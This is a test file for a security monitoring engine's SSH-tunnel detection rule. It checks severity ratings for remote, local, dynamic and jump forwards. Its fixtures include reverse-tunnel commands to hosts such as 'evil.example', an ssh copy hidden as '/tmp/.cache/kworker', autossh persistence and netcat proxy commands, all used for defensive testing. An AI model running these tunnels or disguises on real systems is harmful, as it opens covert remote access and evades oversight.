import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { EventV1 } from '@vigil/schema';
import { builtinEngine, config, exec, exeReference } from '../testing.js';

const SSH_HASH = 'a'.repeat(64);

/** Every alert the built-ins raise for the events, as rule, severity and reason. */
function alerts(...events: EventV1[]) {
  const { engine, alerts } = builtinEngine();
  engine.process(events);
  return alerts.map((a) => ({ rule: a.ruleId, severity: a.severity, reason: a.reason }));
}

const one = (rule: string, events: EventV1[]) => {
  const got = alerts(...events);
  assert.equal(got.length, 1, JSON.stringify(got));
  assert.equal(got[0]!.rule, rule, JSON.stringify(got));
  return got[0]!;
};

test('a remote forward ranks by its far end: critical to a non-loopback host, high to loopback', () => {
  for (const argv of [
    ['ssh', '-R', '9000:localhost:22', 'user@evil.example'],
    ['ssh', '-fNR', '2222:127.0.0.1:22', 'a@10.1.2.3'],
    ['ssh', '-o', 'RemoteForward=9000 localhost:22', 'h'],
    ['ssh', '-R', '1080', 'ssh://u@203.0.113.5:2222'],
    ['autossh', '-M', '0', '-f', '-N', '-R', '8022:localhost:22', 'u@h'],
  ]) {
    const a = one('tunnel.ssh-forward', [exec(argv)]);
    assert.equal(a.severity, 'critical', argv.join(' '));
    assert.match(a.reason, /remote forward|RemoteForward/);
    assert.match(a.reason, /is not loopback/);
  }
  const lo = one('tunnel.ssh-forward', [exec(['ssh', '-NR', '9000:localhost:22', 'nobody@127.0.0.1'])]);
  assert.equal(lo.severity, 'high');
  assert.match(lo.reason, /the far end 127\.0\.0\.1 is loopback/);
});

test('a renamed ssh known by its hash: -R is critical, the reason names the copy; alone it is medium', () => {
  const a = one('tunnel.ssh-forward', [
    exeReference('/usr/bin/ssh', SSH_HASH),
    exec(['/tmp/.cache/kworker', '-R', '9000:localhost:22', '10.1.2.3'], { exeHash: SSH_HASH }),
  ]);
  assert.equal(a.severity, 'critical');
  assert.match(a.reason, /a copy of the host's ssh \(sha256 aaaaaaaaaaaa…\) run as \/tmp\/\.cache\/kworker/);
  assert.match(a.reason, /remote forward \(-R 9000:localhost:22\)/);
  const alone = one('tunnel.ssh-forward', [
    exeReference('/usr/bin/ssh', SSH_HASH),
    exec(['/tmp/.cache/kworker', '10.1.2.3'], { exeHash: SSH_HASH }),
  ]);
  assert.equal(alone.severity, 'medium');
  assert.match(alone.reason, /under another name, with no forward/);
});

test('a renamed ssh whose hash is reported after its exec is judged when the hash arrives', () => {
  const p = {
    pid: 5050,
    exe: '/tmp/.cache/kworker',
    comm: 'kworker',
    argv: ['/tmp/.cache/kworker', '-R', '9000:localhost:22', '10.1.2.3'],
  };
  const late = exeReference('/tmp/.cache/kworker', SSH_HASH);
  if (late.kind === 'exe') {
    late.exe.reference = false;
    late.proc = { ...late.proc, ...p };
  }
  const a = one('tunnel.ssh-forward', [exeReference('/usr/bin/ssh', SSH_HASH), exec(p.argv, { pid: 5050 }), late]);
  assert.equal(a.severity, 'critical');
  assert.match(a.reason, /a copy of the host's ssh .* run as \/tmp\/\.cache\/kworker to 10\.1\.2\.3/);
});

test('ssh -F file: a RemoteForward in the config event ranks as on the command line, naming file and line', () => {
  const p = { pid: 5100, argv: ['ssh', '-F', '/tmp/cfg', 'host'] };
  const a = one('tunnel.ssh-forward', [
    exec(['ssh', '-F', '/tmp/cfg', 'host'], { pid: 5100 }),
    config('/tmp/cfg', ['1: Host host', '2: HostName 10.1.2.3', '3: RemoteForward 9000 localhost:22'], p, 'argument'),
  ]);
  assert.equal(a.severity, 'critical');
  assert.match(
    a.reason,
    /started with \/tmp\/cfg \(argument\), which sets RemoteForward 9000 localhost:22 \(\/tmp\/cfg line 3\)/,
  );
  assert.match(a.reason, /the far end 10\.1\.2\.3 is not loopback/);
});

test('~/.ssh/config: forwards of the Host the process targets count; other hosts’ do not', () => {
  const p = { pid: 5200, argv: ['ssh', 'tunnelbox'] };
  const cfg = [
    '1: Host github.com',
    '2: RemoteForward 9001 localhost:22',
    '5: Host tunnel*',
    '6: RemoteForward 9000 localhost:22',
    '7: LocalForward 8888 localhost:8888',
  ];
  const a = one('tunnel.ssh-forward', [config('/home/u/.ssh/config', cfg, p, 'ssh-config')]);
  assert.equal(a.severity, 'critical');
  assert.match(a.reason, /RemoteForward 9000 localhost:22 \(\/home\/u\/\.ssh\/config line 6\)/);
  assert.doesNotMatch(a.reason, /line 2/);
  const gpu = alerts(config('/home/u/.ssh/config', cfg, { pid: 5201, argv: ['ssh', 'gpu-node'] }, 'ssh-config'));
  assert.deepEqual(gpu, [], 'no block for gpu-node');
});

test('local, dynamic and jump forwards are low, medium only when they listen on every interface', () => {
  for (const [argv, severity] of [
    [['ssh', '-L', '8888:localhost:8888', 'gpu-node'], 'low'],
    [['ssh', '-N', '-D', '1080', 'host'], 'low'],
    [['ssh', '-T', '-D', '50123', '-o', 'ConnectTimeout=15', 'host', 'bash'], 'low'],
    [['ssh', '-J', 'bastion', 'gpu-node'], 'low'],
    [['ssh', '-oProxyCommand=nc %h %p', 'h'], 'low'],
    [['ssh', '-L', '0.0.0.0:8888:localhost:8888', 'gpu-node'], 'medium'],
    [['ssh', '-o', 'GatewayPorts=yes', '-L', '8888:localhost:8888', 'gpu-node'], 'medium'],
    [['ssh', '-gNL', '8888:localhost:8888', 'gpu-node'], 'medium'],
    [['ssh', '-w', '0:0', 'h'], 'high'],
  ] as const) {
    const a = one('tunnel.ssh-forward', [exec([...argv])]);
    assert.equal(a.severity, severity, argv.join(' '));
  }
});

test('git over ssh, ports alone and ordinary logins raise nothing', () => {
  assert.deepEqual(
    alerts(
      exec(['ssh', '-o', 'SendEnv=GIT_PROTOCOL', '-p', '443', 'git@ssh.github.com', "git-upload-pack 'org/repo.git'"], {
        ancestry: [
          {
            pid: 4000,
            comm: 'git',
            exe: '/usr/bin/git',
            argv: ['git', 'clone', 'ssh://git@ssh.github.com:443/org/repo.git'],
          },
        ],
      }),
      exec(['ssh', '-p', '443', 'u@h']),
      exec(['ssh', 'ssh://git@ssh.github.com:443', 'git-receive-pack', 'org/repo.git']),
      exec(['ssh', 'git@github.com', 'git-lfs-authenticate', 'org/repo', 'download']),
      exec(['ssh', '-p', '2222', '-i', '/home/u/.ssh/id_ed25519', 'u@login']),
      exec(['ssh', '-l', 'R', 'host']),
      exec(['ssh', '-o', 'GatewayPorts=no', 'host']),
    ),
    [],
  );
});
